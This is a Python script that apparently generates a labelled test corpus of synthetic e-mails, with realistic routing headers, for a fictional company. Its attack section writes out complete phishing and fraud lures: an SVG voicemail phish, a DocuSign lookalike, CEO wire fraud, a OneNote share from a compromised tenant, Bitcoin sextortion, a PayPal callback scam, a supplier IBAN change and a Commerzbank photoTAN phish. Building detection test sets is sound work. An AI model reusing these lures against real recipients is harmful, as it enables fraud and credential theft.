              rx("Received: from %s.%s.prod.outlook.com (2603:10a6:10:%s::%s) by\n %s.%s.prod.outlook.com (2603:10a6:20b:%s::%s) with Microsoft SMTP\n Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id\n 15.20.9366.011; {D}"
                 % (mb, region, hx("v61", seed, n=3), hx("v62", seed, n=2), "AM0PR03MB" + hx("am", seed, n=4).upper(), region,
                    hx("v63", seed, n=3), hx("v64", seed, n=2)), t, 1, GMT, pad=False)]
    extra = [("X-MS-Has-Attach", ""), ("X-MS-TNEF-Correlator", ""),
             ("X-MS-Exchange-Organization-SCL", "1") if False else ("X-MS-PublicTrafficType", "Email"),
             ("X-MS-TrafficTypeDiagnostic", "%s:EE_|AS8PR03MB%s:EE_" % (mb, hx("tt", seed, n=4).upper())),
             ("X-MS-Exchange-CrossTenant-OriginalArrivalTime", "%02d %s 2026 %02d:%02d:%02d.%04d (UTC)" % (
                 t.astimezone(GMT).day, _MONS[t.astimezone(GMT).month - 1], t.astimezone(GMT).hour,
                 t.astimezone(GMT).minute, t.astimezone(GMT).second, int(hx("ms", seed, n=3), 16) % 10000)),
             ("X-MS-Exchange-CrossTenant-Id", tenant_id or "%s-%s-%s-%s-%s" % (hx("t1", seed, n=8), hx("t2", seed, n=4),
                                                                              hx("t3", seed, n=4), hx("t4", seed, n=4),
                                                                              hx("t5", seed, n=12)))]
    if client is None:
        n = int(hx("eop", seed, n=2), 16)
        client = ("EUR03-DBA-obe.outbound.protection.outlook.com",
                  "mail-dbaeur03on2%03d.outbound.protection.outlook.com" % (n % 140 + 60), "40.107.104.%d" % (n % 140 + 60))
    return client, relays, extra


def outlook_mid(seed, mb="DU2PR03MB7894", region="EURPRD03"):
    return "<%s%s@%s.%s.PROD.OUTLOOK.COM>" % (mb, hx("omid", seed, n=28).upper(), mb, region)


def thread_index(seed):
    return base64.b64encode(b"\x01\xdc" + hb("ti", seed, n=20)).decode()


def internal_infra(t, seed, rcpt, mbx="EXMBX02"):
    """Colleague mail: Exchange 2019 mailbox server -> internal relay mail-int01 -> mx01 (filter)."""
    ip = {"EXMBX01": "10.20.1.21", "EXMBX02": "10.20.1.22"}[mbx]
    relays = [rx("Received: from %s.corp.example.com (%s.corp.example.com [%s])\n\t(using TLSv1.2 with cipher ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits))\n\tby mail-int01.example.com (Postfix) with ESMTPS id 4%sz%s\n\tfor <%s>; {D}"
                 % (mbx, mbx.lower(), ip, an("iq", seed, n=11), an("iq2", seed, n=2), rcpt), t, 1, CET),
              rx("Received: from %s.corp.example.com (%s) by %s.corp.example.com\n (%s) with Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1748.10 via Mailbox\n Transport; {D}"
                 % (mbx, ip, mbx, ip), t, 0, CET, pad=False)]
    extra = [("X-MS-Exchange-Organization-AuthAs", "Internal"),
             ("X-MS-Exchange-Organization-AuthSource", "%s.corp.example.com" % mbx),
             ("X-MS-Has-Attach", ""), ("X-MS-TNEF-Correlator", ""),
             ("X-Originating-IP", "[10.20.%d.%d]" % (30 + int(hx("o1", seed, n=2), 16) % 20, int(hx("o2", seed, n=2), 16) % 250 + 2))]
    return ("mail-int01.example.com", "mail-int01.example.com", "10.20.0.25"), relays, extra


def exch_mid(seed, mbx="EXMBX02"):
    return "<%s@%s.corp.example.com>" % (hx("xmid", seed, n=32), mbx)


def outlook_bnd(seed, mbx="EXMBX02"):
    return "_000_%s%s_" % (hx("ob", seed, n=24), mbx.lower())


def ses_infra(region="eu-west-1", n=12, ip="54.240.7.12"):
    h = "a7-%d.smtp-out.%s.amazonses.com" % (n, region)
    return (h, h, ip)


def std_footer_unsub(url):
    return url

# ---------------------------------------------------------------- staff --

STAFF = [
    ("brandt", "Markus Brandt", "m.brandt@example.com", "DE – Hamburg (HQ)", "Chief Executive Officer"),
    ("wenzel", "Claudia Wenzel", "c.wenzel@example.com", "DE – Hamburg (HQ)", "Chief Financial Officer"),
    ("krueger", "Sabine Krüger", "s.krueger@example.com", "DE – Hamburg (HQ)", "Accounts Payable"),
    ("becker", "Jonas Becker", "j.becker@example.com", "DE – Hamburg (HQ)", "IT Administrator"),
    ("hahn", "Petra Hahn", "p.hahn@example.com", "DE – Hamburg (HQ)", "HR Manager"),
    ("schmitt", "Lukas Schmitt", "l.schmitt@example.com", "DE – Hamburg (HQ)", "Logistics Coordinator"),
    ("vogel", "Anna Vogel", "a.vogel@example.com", "DE – Hamburg (HQ)", "Executive Assistant to the CEO"),
    ("richter", "Thomas Richter", "t.richter@examplegroup.eu", "DE – Hamburg (HQ)", "Key Account Manager (Sales)"),
    ("ferraro", "Giulia Ferraro", "g.ferraro@examplegroup.eu", "IT – Milano", "Office Manager Italy"),
    ("rinaldi", "Marco Rinaldi", "m.rinaldi@example.com", "IT – Milano", "Logistics / Dispatch"),
    ("deluca", "Francesca De Luca", "f.deluca@example.com", "IT – Milano", "Accounting Italy"),
    ("nowak", "Katarzyna Nowak", "k.nowak@example.com", "PL – Poznań", "Chief Accountant Poland"),
    ("wisniewski", "Piotr Wiśniewski", "p.wisniewski@example.com", "PL – Poznań", "Transport Planner"),
    ("kaminska", "Agnieszka Kamińska", "a.kaminska@examplegroup.eu", "PL – Poznań", "Sales Manager Poland"),
    ("papadopoulos", "Νίκος Παπαδόπουλος", "n.papadopoulos@example.com", "GR – Piraeus", "Country Manager Greece"),
    ("georgiou", "Ελένη Γεωργίου", "e.georgiou@example.com", "GR – Piraeus", "Accounts & Payroll Greece"),
    ("antoniou", "Δημήτρης Αντωνίου", "d.antoniou@examplegroup.eu", "GR – Piraeus", "Sales Greece"),
    ("martinez", "Javier Martínez", "j.martinez@example.com", "ES – Valencia", "Country Manager Spain"),
    ("fernandez", "Lucía Fernández", "l.fernandez@example.com", "ES – Valencia", "Finance & Accounting Spain"),
    ("ruiz", "Carmen Ruiz", "c.ruiz@examplegroup.eu", "ES – Valencia", "Sales Spain"),
    ("thompson", "James Thompson", "j.thompson@example.com", "UK – London", "Managing Director UK"),
    ("clarke", "Emma Clarke", "e.clarke@example.com", "UK – London", "Finance Manager UK"),
    ("smirnova", "Ольга Смирнова", "o.smirnova@example.com", "RU – Moscow", "Chief Accountant Russia"),
    ("ivanov", "Алексей Иванов", "a.ivanov@example.com", "RU – Moscow", "General Director Russia"),
    ("kuznetsova", "Мария Кузнецова", "m.kuznetsova@examplegroup.eu", "RU – Moscow", "Logistics Russia"),
]
SD = {k: (n, e) for k, n, e, _o, _r in STAFF}


def S(key, cs="utf-8", q=False, csname=None):
    n, e = SD[key]
    return A(n, e, cs, q, csname)


def E(key):
    return SD[key][1]


def N(key):
    return SD[key][0]

# =========================================================== ATTACK (en) ==

def attack_en():
    # 01 SVG "voicemail" credential phish
    t = T(1, 3, 47, 12, EST)
    rc = E("thompson")
    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="420" height="160" viewBox="0 0 420 160">\n'
           '<rect width="420" height="160" rx="10" fill="#f3f2f1"/>\n'
           '<text x="24" y="44" font-family="Segoe UI,Arial" font-size="18" fill="#201f1e">Voice message (00:47)</text>\n'
           '<text x="24" y="74" font-family="Segoe UI,Arial" font-size="13" fill="#605e5c">From: +44 20 3807 5521</text>\n'
           '<a xlink:href="https://examplegroup-com.vm-playback.cfd/l/?d=ai50aG9tcHNvbkBleGFtcGxlLmNvbQ==" target="_blank">\n'
           '<rect x="24" y="96" width="160" height="36" rx="4" fill="#0f6cbd"/>\n'
           '<text x="48" y="119" font-family="Segoe UI,Arial" font-size="14" fill="#ffffff">&#9654; Play message</text></a>\n'
           '<script type="text/javascript"><![CDATA[\n'
           '/* SAFE PLACEHOLDER: in the real sample an obfuscated script (atob + window.location) redirected\n'
           '   the victim to the credential page with the recipient address pre-filled. Removed for this test set. */\n'
           'var _t = "placeholder";\n'
           ']]></script>\n</svg>\n')
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Segoe UI,Arial;font-size:14px">'
            '<p><b>New voice message</b> for j.thompson@example.com</p>'
            '<table cellpadding="4"><tr><td>Caller:</td><td>+44 20 3807 5521</td></tr>'
            '<tr><td>Duration:</td><td>00:47</td></tr><tr><td>Received:</td><td>Tue 01/12/2026 08:41</td></tr></table>'
            '<p>The audio recording is attached. Open the attachment in your browser to play the message.</p>'
            '<p style="color:#888;font-size:11px">Unified Messaging &middot; Example Group Voice Services</p>'
            '</div></body></html>')
    b = "----=_Part_%s" % hx("a1b", n=20)
    body = MP("mixed", [HTML(html), ATT(svg, "image/svg+xml", "VM_Playback_+442038075521_0047.svg")], b)
    emit("attack", "01-en-voicemail-svg-attachment.eml",
         "Fake 'new voicemail' notification with an SVG attachment whose embedded link/script leads to a credential-harvesting page (SVG smuggling).",
         client=("mail.pinecrestdentalcare.net", "vps-4e21a7c9.vps.ovh.us", "51.81.44.123"), rcpt=rc, t=t,
         rp="bounce-vm@pinecrestdentalcare.net", tls="1.2",
         relays=[rx("Received: from [127.0.0.1] (localhost [127.0.0.1])\n\tby mail.pinecrestdentalcare.net (Postfix) with ESMTPSA id 7C1E2401A3\n\tfor <j.thompson@example.com>; {D}", t, 0)],
         hdrs=[("From", A("Example Group Voice Services", "voicemail@pinecrestdentalcare.net")),
               ("To", rc), ("Subject", ew("\U0001f50a New voicemail from +44 20 3807 5521 (00:47) \u2013 Tue 01 Dec")),
               ("Message-ID", "<%s@pinecrestdentalcare.net>" % hx("a1m", n=24)), ("X-Priority", "1"),
               ("Content-Language", "en-US")],
         body=body)

    # 02 DocuSign lookalike via compromised SendGrid account
    t = T(1, 10, 5, 40, GMT)
    rc = E("vogel")
    url = "https://u4829133.ct.sendgrid.net/ls/click?upn=u001.%s" % an("a2u", n=120, alphabet=_AL + "-_")
    html = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Docusign</title></head>'
            '<body style="background:#eaeaea;margin:0;padding:20px 0">'
            '<table align="center" width="640" style="background:#1e4ca1;color:#fff;font-family:Helvetica,Arial"><tr><td style="padding:30px;text-align:center">'
            '<div style="font-size:16px">HR Department sent you a document to review and sign.</div>'
            '<br><a href="%s" style="background:#ffc423;color:#000;padding:12px 26px;text-decoration:none;font-weight:bold;border-radius:3px">REVIEW DOCUMENT</a>'
            '</td></tr></table>'
            '<table align="center" width="640" style="background:#fff;font-family:Helvetica,Arial;font-size:15px"><tr><td style="padding:30px">'
            '<b>HR Department</b><br>hr-portal@examplegroup.eu<br><br>'
            'Dear Anna Vogel,<br><br>Please review and sign the attached document regarding your 2026 year-end compensation adjustment '
            'and updated bonus structure effective 1 January 2027. This envelope expires in 48 hours.<br><br>'
            'Thank you,<br>HR Department</td></tr></table>'
            '<table align="center" width="640" style="font-family:Helvetica,Arial;font-size:11px;color:#666"><tr><td style="padding:20px">'
            '<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>'
            '<b>About Docusign</b><br>Sign documents electronically in just minutes. It\'s safe, secure, and legally binding.'
            '<img src="https://u4829133.ct.sendgrid.net/wf/open?upn=u001.%s" width="1" height="1" alt="">'
            '</td></tr></table></body></html>' % (url, an("a2o", n=90, alphabet=_AL + "-_")))
    txt = ("HR Department sent you a document to review and sign.\n\nREVIEW DOCUMENT: %s\n\n"
           "Dear Anna Vogel,\n\nPlease review and sign the attached document regarding your 2026 year-end compensation "
           "adjustment and updated bonus structure effective 1 January 2027. This envelope expires in 48 hours.\n\n"
           "Thank you,\nHR Department\n" % url)
    b = hx("a2b", n=32)
    body = MP("alternative", [TXT(txt), HTML(html)], b)
    emit("attack", "02-en-docusign-lookalike-compensation.eml",
         "Docusign-branded lure about a 'year-end compensation adjustment' sent via an abused SendGrid account with click-tracking redirect to a phishing page.",
         client=("wrqvtzvf.outbound-mail.sendgrid.net", "wrqvtzvf.outbound-mail.sendgrid.net", "149.72.154.232"),
         rcpt=rc, t=t, rp="bounces+38221547-9c1d-a.vogel=example.com@em4417.docsign-envelope.com",
         relays=[rx("Received: by filterdrecv-7d9c8b6f4-x2kqp with SMTP id filterdrecv-7d9c8b6f4-x2kqp-1-%s-2B\n        {D}" % hx("a2f", n=8).upper(), t, 0, UTC),
                 rx("Received: from MzgyMjE1NDc (unknown)\n\tby geopod-ismtpd-12 (SG) with HTTP\n\tid %s\n\t{D}" % an("a2g", n=22), t, 0, UTC)],
         hdrs=[("From", A("Docusign via HR Department", "dse_NA4@docsign-envelope.com")),
               ("Reply-To", A("HR Department", "hr-portal.examplegroup@proton.me")),
               ("To", A("Anna Vogel", rc)),
               ("Subject", "Complete with Docusign: 2026_YearEnd_Compensation_Adjustment_AVogel.pdf"),
               ("Message-ID", "<%s@geopod-ismtpd-12>" % an("a2m", n=22)),
               ("X-SG-EID", an("a2e", n=88, alphabet=_AL + "+/") + "=="),
               ("X-Entity-ID", "u001." + an("a2i", n=24, alphabet=_AL + "+/"))],
         body=body, tls="1.2")

    # 03 CEO fraud (BEC) from free-mail with display name, reply-to elsewhere
    rc = E("clarke")
    t = T(2, 7, 52, 3, GMT)
    client, relays, extra = gmail_infra(t, "a3", rc, host=("mail-ed1-f54.google.com", "209.85.208.54"))
    txt = ("Emma,\n\nAre you at your desk? I need you to handle a confidential wire today. We are finalising "
           "an acquisition in the UK and our lawyers need the deposit settled before the close of business. "
           "Please keep this between us until the announcement - not even James is informed yet.\n\n"
           "Reply with the current available balance on the UK account and I will send the beneficiary details "
           "from the law firm.\n\nI am in meetings all day so email only.\n\nMarkus Brandt\nCEO\n\nSent from my iPhone\n")
    b = gmail_bnd("a3")
    html = '<div dir="ltr">' + txt.replace("\n\n", "</div><div dir=\"ltr\"><br></div><div dir=\"ltr\">").replace("\n", "<br>") + "</div>\n"
    body = MP("alternative", [TXT(txt, csq=True, cte="7bit"), HTML(html, cte="7bit")], b)
    emit("attack", "03-en-ceo-fraud-confidential-wire.eml",
         "CEO-impersonation BEC from a Gmail account using the CEO's display name, asking the UK finance manager for balance and a secret urgent wire; Reply-To to another mailbox.",
         client=client, rcpt=rc, t=t, rp="markus.brandt.office@gmail.com", relays=relays,
         hdrs=extra + [("MIME-Version", "1.0"), ("From", A("Markus Brandt", "markus.brandt.office@gmail.com")),
                       ("Date", rfc(t)), ("Message-ID", gmail_mid("a3")), ("Subject", "Request"),
                       ("To", A("Emma Clarke", rc)), ("Reply-To", "m.brandt.ceo@execmail.org")],
         body=body)

    # 04 SharePoint/OneNote share from a genuinely compromised M365 tenant of an unknown company
    rc = E("richter")
    t = T(2, 9, 14, 51, EST)
    client = ("NAM10-BN7-obe.outbound.protection.outlook.com", "mail-bn7nam10on2112.outbound.protection.outlook.com", "40.107.92.112")
    _c, relays, extra = m365_infra(t, "a4", tenant_host="BN0PR15MB5621", region="namprd15", client=client)
    url = ("https://coastalfreightsolutions-my.sharepoint.com/:o:/g/personal/j_harmon_coastalfreightsolutions_com/"
           "E%s?e=%s" % (an("a4u", n=46, alphabet=_AL + "-_"), an("a4e", n=6)))
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<table width="100%%" style="font-family:Segoe UI,Helvetica,Arial"><tr><td align="center">'
            '<table width="520" style="border:1px solid #e1e1e1"><tr><td style="padding:24px">'
            '<div style="font-size:20px;color:#323130">Jessica Harmon shared a OneNote notebook with you</div><br>'
            '<div style="font-size:14px;color:#605e5c">&quot;Please find the remittance and the updated 2027 rate sheet. Let me know if you have questions.&quot;</div><br>'
            '<table style="border:1px solid #edebe9;width:100%%"><tr><td style="padding:12px;font-size:15px">'
            '<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20251111.001/assets/item-types/24/onetoc.png" width="24" height="24"> '
            'Coastal Freight - Remittance &amp; Rate Sheet Dec 2026</td></tr></table><br>'
            '<a href="%s" style="background:#0078d4;color:#fff;padding:10px 22px;text-decoration:none">Open</a>'
            '<br><br><div style="font-size:11px;color:#a19f9d">This link only works for the direct recipients of this message.</div>'
            '<div style="font-size:11px;color:#a19f9d"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20251111.001/assets/brand-icons/product/png/microsoft_32x1.png" height="14"> '
            'Microsoft respects your privacy. To learn more, please read our <a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a>.<br>'
            'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</div>'
            '</td></tr></table></td></tr></table></body></html>' % url)
    txt = ("Jessica Harmon shared a OneNote notebook with you\n\n\"Please find the remittance and the updated 2027 "
           "rate sheet. Let me know if you have questions.\"\n\nCoastal Freight - Remittance & Rate Sheet Dec 2026\n"
           "Open: %s\n\nThis link only works for the direct recipients of this message.\n" % url)
    b = "_000_BN0PR15MB5621%s_" % hx("a4b", n=24).upper()
    body = MP("alternative", [TXT(txt), HTML(html)], b)
    emit("attack", "04-en-sharepoint-onenote-compromised-tenant.eml",
         "SharePoint/OneNote 'shared with you' notice sent from a genuinely compromised US logistics company's Microsoft 365 mailbox; the OneNote page links onward to a credential phishing site (passes sender authentication).",
         client=client, rcpt=rc, t=t, rp="j.harmon@coastalfreightsolutions.com", relays=relays,
         hdrs=[("From", A("Jessica Harmon", "j.harmon@coastalfreightsolutions.com")),
               ("To", A("Thomas Richter", rc)),
               ("Subject", 'Jessica Harmon shared "Coastal Freight - Remittance & Rate Sheet Dec 2026" with you'),
               ("Thread-Topic", 'Jessica Harmon shared "Coastal Freight - Remittance & Rate Sheet Dec 2026" with you'),
               ("Thread-Index", thread_index("a4")), ("Date", rfc(t, False)),
               ("Message-ID", outlook_mid("a4", "BN0PR15MB5621", "NAMPRD15")),
               ("Accept-Language", "en-US"), ("Content-Language", "en-US")] + extra,
         body=body, tls="1.2")

    # 05 Sextortion, sender spoofs recipient's own address
    rc = E("schmitt")
    t = T(3, 1, 18, 44, tz(-6))
    btc = "bc1q" + an("btc", n=38, alphabet="023456789acdefghjklmnpqrstuvwxyz")
    txt = ("Hello!\n\nI have to share bad news with you.\nApproximately few months ago I have gained access to your devices, "
           "which you use for internet browsing.\nAfter that, I have started tracking your internet activities.\n\n"
           "Here is the sequence of events:\nSome time ago I have purchased access to email accounts from hackers "
           "(nowadays, it is quite simple to purchase it online).\nObviously, I have easily managed to log in to your "
           "email account (l.schmitt@example.com).\n\nOne week later, I have already installed Trojan virus to Operating "
           "Systems of all the devices that you use to access your email.\n\nI have downloaded all your sensitive data, "
           "photos, web browsing history to my servers.\nI have access to all your messengers, social networks, emails, "
           "chat history and contacts list.\nMy virus continuously refreshes the signatures (it is driver-based), and "
           "hence remains invisible for antivirus software.\n\nI have recorded a video showing you (through your camera) "
           "satisfying yourself on adult websites.\nWith one click of my mouse, I can send this video to all your emails "
           "and contacts on social networks, including your colleagues at Example Group.\n\n"
           "I believe that 1450 USD is quite a fair price.\nTransfer it in Bitcoin to my wallet:\n\n%s\n\n"
           "As soon as I receive the transfer I will delete the video and you will never hear from me again.\n"
           "You have 48 hours. I receive a notification when you open this email, the timer has started.\n"
           "Do not reply, this mailbox is not monitored.\n" % btc)
    emit("attack", "05-en-sextortion-bitcoin-spoofed-self.eml",
         "Sextortion/extortion e-mail demanding Bitcoin, with the recipient's own address forged as sender, sent from a residential IP without TLS.",
         client=("dsl-187-190-43-12-dyn.prod-infinitum.com.mx", "unknown", "187.190.43.12"), rcpt=rc, t=t,
         rp=rc, tls=None,
         hdrs=[("From", A("Lukas Schmitt", rc)), ("To", rc), ("Subject", "Your account is hacked. Payment pending: " + hx("sx", n=6).upper()),
               ("Message-ID", "<%s.%s@example.com>" % (hx("a5m", n=12), hx("a5n", n=6))),
               ("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512"), ("X-Priority", "3"),
               ("MIME-Version", "1.0")],
         body=TXT(txt, cs="us-ascii", cte="7bit"))

    # 06 PayPal invoice abuse: genuine PayPal infrastructure, callback phishing (TOAD)
    rc = E("vogel")
    t = T(3, 6, 31, 9, PST)
    phone = "+1 (808) 555-0143"
    note = ("Your PayPal account has been charged $749.99 USD for Norton 360 Deluxe (3 years, 10 devices). "
            "If you did not authorize this transaction, contact our billing desk immediately at %s "
            "to cancel and receive a full refund within 24 hours." % phone)
    html = ('<!DOCTYPE html><html lang="en"><head><meta charset="UTF-8"></head><body style="font-family:Helvetica,Arial">'
            '<table width="600" align="center"><tr><td><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="40" alt="PayPal"></td></tr>'
            '<tr><td style="font-size:24px;padding:20px 0">Billing Department sent you an invoice</td></tr>'
            '<tr><td style="font-size:32px">$749.99 USD</td></tr><tr><td>Due on receipt</td></tr>'
            '<tr><td style="padding:20px 0"><b>Invoice number</b><br>INV-%s</td></tr>'
            '<tr><td style="background:#f5f7fa;padding:14px"><b>Seller note to customer</b><br>%s</td></tr>'
            '<tr><td style="padding:20px 0"><a href="https://www.paypal.com/invoice/p/#%s" style="background:#003087;color:#fff;padding:12px 30px;border-radius:25px;text-decoration:none">View and Pay Invoice</a></td></tr>'
            '<tr><td style="font-size:11px;color:#6c7378">Don\'t recognise this invoice? Report this invoice. Before paying, make sure you recognise this invoice. '
            'PayPal is located at 2211 North First Street, San Jose, California 95131.</td></tr></table></body></html>'
            % (hx("inv", n=10).upper(), note, hx("ppi", n=20).upper()))
    b = "--%s" % hx("a6b", n=30)
    body = MP("alternative", [TXT("Billing Department sent you an invoice\n\n$749.99 USD due on receipt\n\nSeller note to customer:\n%s\n\nView and Pay Invoice: https://www.paypal.com/invoice/p/#%s\n" % (note, hx("ppi", n=20).upper()), cs="UTF-8"), HTML(html, cs="UTF-8")], b)
    emit("attack", "06-en-paypal-invoice-callback-scam.eml",
         "Callback (TOAD) scam delivered through PayPal's genuine invoicing system: fake $749.99 antivirus charge with a phone number in the seller note.",
         client=("mx0.slc.paypal.com", "mx0.slc.paypal.com", "173.0.84.226"), rcpt=rc, t=t,
         rp="service@paypal.com",
         relays=[rx("Received: from slc-a-mtaout-%d.slc.paypal.com (localhost [127.0.0.1])\n\tby mx0.slc.paypal.com (Postfix) with ESMTPS id 4S%s\n\tfor <a.vogel@example.com>; {D}" % (int(hx("pp", n=2), 16) % 9 + 1, an("a6q", n=10)), t, 0)],
         hdrs=[("Content-Transfer-Encoding", "7bit") if False else ("X-Email-Type-Id", "RT000238"),
               ("Date", rfc(t)), ("From", A("service@paypal.com", "service@paypal.com", quote=True)),
               ("To", rc), ("Subject", "You've got a money request: Billing Department sent you an invoice"),
               ("Message-ID", "<%s.%s@mx0.slc.paypal.com>" % (hx("a6m", n=8), hx("a6n", n=14))),
               ("X-PP-REQUESTED-TIME", "%d" % 1796733069000), ("X-PP-Email-transmission-Id", "%s-%s" % (hx("a", n=8), hx("b", n=4))),
               ("PP-Correlation-Id", hx("a6c", n=13)), ("X-MaxCode-Template", "PPX000597")],
         body=body)

# =========================================================== ATTACK (de) ==

def attack_de():
    # 07 Supplier lookalike domain: bank details change
    rc = E("krueger")
    t = T(30, 14, 22, 5, CET)
    txt = ("Sehr geehrte Frau Krüger,\n\n"
           "im Zuge der Umstellung unseres Zahlungsverkehrs auf unsere neue Hausbank bitten wir Sie, "
           "alle offenen sowie künftigen Zahlungen ab sofort ausschließlich auf die folgende Bankverbindung zu leisten:\n\n"
           "Kontoinhaber: Lieferant GmbH\nIBAN: LT62 3250 0211 8847 3390\nBIC: REVOLT21\nBank: Revolut Bank UAB\n\n"
           "Die bisherige Verbindung bei der Hamburger Sparkasse wird zum 05.12.2026 aufgelöst; Zahlungen "
           "dorthin können nicht mehr zugeordnet werden. Das offizielle Schreiben unserer Geschäftsführung finden Sie im Anhang.\n\n"
           "Bitte bestätigen Sie kurz per E-Mail die Änderung in Ihrem System und teilen Sie uns mit, welche "
           "Rechnungen aktuell zur Zahlung anstehen (insbesondere RE-11804 über 48.612,40 EUR).\n"
           "Aufgrund der Migration unserer Telefonanlage sind wir diese Woche telefonisch leider nur eingeschränkt erreichbar.\n\n"
           "Mit freundlichen Grüßen\n\nStefan Maier\nVertrieb Innendienst\n\nLieferant GmbH\nIndustriestraße 14\n"
           "21079 Hamburg\nTel. +49 40 7654 3210\nwww.lieferant-gmbh.de\n\nGeschäftsführer: Dr. Henning Lorenz | "
           "Amtsgericht Hamburg HRB 104477\n")
    letter = pdf(["Lieferant GmbH - Industriestrasse 14 - 21079 Hamburg", "", "An: Example Group", "Buchhaltung / Kreditoren", "",
                  ("Mitteilung ueber die Aenderung unserer Bankverbindung", 13), "",
                  "Sehr geehrte Damen und Herren,", "",
                  "hiermit teilen wir Ihnen mit, dass sich unsere Bankverbindung mit sofortiger Wirkung aendert.",
                  "Neue IBAN: LT62 3250 0211 8847 3390   BIC: REVOLT21   Revolut Bank UAB",
                  "Bitte aktualisieren Sie Ihre Stammdaten und leisten Sie alle Zahlungen nur noch auf dieses Konto.",
                  "", "Hamburg, 30.11.2026", "", "gez. Dr. Henning Lorenz, Geschaeftsfuehrer"],
                 title="Bankverbindung", author="smaier", seed="a7")
    b = "----=_NextPart_000_00A1_01DD60F2.%s" % hx("a7b", n=8).upper()
    body = MP("mixed", [MP("alternative", [TXT(txt, cs="iso-8859-15", csname="iso-8859-15"),
                                           HTML("<html><body><div style=\"font-family:Calibri,sans-serif;font-size:11pt\">" +
                                                txt.replace("&", "&amp;").replace("\n", "<br>\n") + "</div></body></html>",
                                                cs="iso-8859-15")],
                                   "----=_NextPart_001_00A2_01DD60F2.%s" % hx("a7c", n=8).upper()),
                        ATT(letter, "application/pdf", "Bankverbindung_Aenderung_Lieferant_GmbH.pdf")],
              b, preamble="This is a multipart message in MIME format.")
    emit("attack", "07-de-supplier-lookalike-iban-change.eml",
         "Invoice/payment fraud: typosquatted supplier domain (lieferant-gmbh.de.com) announcing a new Lithuanian IBAN, with a fake letter PDF and discouragement of phone verification.",
         client=("mail.lieferant-gmbh.de.com", "static.54.117.198.88.clients.your-server.de", "88.198.117.54"),
         rcpt=rc, t=t, rp="s.maier@lieferant-gmbh.de.com",
         relays=[rx("Received: from DESKTOP-7RQ2K1M (unknown [45.134.26.77])\n\tby mail.lieferant-gmbh.de.com (Postfix) with ESMTPSA id 9F3B21C4215\n\tfor <s.krueger@example.com>; {D}", t, 1)],
         hdrs=[("From", A("Stefan Maier", "s.maier@lieferant-gmbh.de.com")), ("To", A("Sabine Krüger", rc, "iso-8859-15", q=True)),
               ("Subject", ew("Änderung unserer Bankverbindung – bitte umgehend berücksichtigen", "windows-1252", q=True)),
               ("Date", rfc(t, False)), ("Message-ID", "<000001dd60f2$%s$%s@lieferant-gmbh.de.com>" % (hx("a7x", n=8), hx("a7y", n=8))),
               ("MIME-Version", "1.0"), ("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", thread_index("a7")),
               ("Content-Language", "de")],
         body=body)

    # 08 Commerzbank photoTAN phishing via Amazon SES
    rc = E("wenzel")
    t = T(1, 11, 3, 27, CET)
    link = "https://cb-firmenkunden-sicherheit.de/photoTAN/aktivierung?k=%s" % hx("a8k", n=24)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"></head>'
            '<body style="font-family:Arial;background:#f2f2f2"><table width="600" align="center" style="background:#fff">'
            '<tr><td style="background:#ffcc00;padding:16px;font-size:22px;font-weight:bold;color:#002e3c">COMMERZBANK</td></tr>'
            '<tr><td style="padding:24px;font-size:14px;color:#002e3c">'
            'Sehr geehrte Kundin, sehr geehrter Kunde,<br><br>'
            'aufgrund der neuen EU-Zahlungsdiensterichtlinie (PSD3) und der Umstellung auf die Verifizierung von Zahlungsempfängern '
            '(Verification of Payee) muss Ihr <b>photoTAN-Verfahren für das Firmenkundenportal</b> bis zum <b>07.12.2026</b> neu aktiviert werden.<br><br>'
            'Nach Ablauf der Frist werden SEPA-Überweisungen und Sammelaufträge aus Sicherheitsgründen vorübergehend gesperrt.<br><br>'
            '<a href="%s" style="background:#002e3c;color:#fff;padding:12px 24px;text-decoration:none">Jetzt photoTAN aktualisieren</a><br><br>'
            'Die Aktualisierung dauert nur wenige Minuten. Halten Sie bitte Ihr photoTAN-Lesegerät bzw. Ihre App bereit.<br><br>'
            'Mit freundlichen Grüßen<br>Ihr Commerzbank Firmenkunden-Service</td></tr>'
            '<tr><td style="padding:16px;font-size:10px;color:#777">Commerzbank AG, Kaiserplatz, 60311 Frankfurt am Main. '
            'Diese E-Mail wurde automatisch erstellt.</td></tr></table></body></html>' % link)
    b = "----=_Part_%d_%d.%d" % (int(hx("a8p", n=6), 16), int(hx("a8q", n=6), 16), 1796717007000)
    body = MP("alternative", [TXT("Sehr geehrte Kundin, sehr geehrter Kunde,\n\nIhr photoTAN-Verfahren für das Firmenkundenportal muss bis zum 07.12.2026 neu aktiviert werden.\n\nJetzt aktualisieren: %s\n\nIhr Commerzbank Firmenkunden-Service\n" % link, cs="windows-1252"),
                              HTML(html, cs="windows-1252")], b)
    emit("attack", "08-de-commerzbank-phototan-phish.eml",
         "Bank phishing impersonating Commerzbank business banking ('photoTAN must be re-activated because of PSD3/Verification of Payee'), sent via Amazon SES from a lookalike domain.",
         client=ses_infra("eu-central-1", 4, "69.169.224.4"), rcpt=rc, t=t,
         rp="010701938f%s-000000@eu-central-1.amazonses.com" % hx("a8r", n=20),
         hdrs=[("From", A("Commerzbank Firmenkunden", "service@cb-firmenkunden-sicherheit.de")), ("To", rc),
               ("Subject", ew("Wichtig: Ihr photoTAN-Verfahren muss bis 07.12.2026 aktualisiert werden", "windows-1252", q=True)),
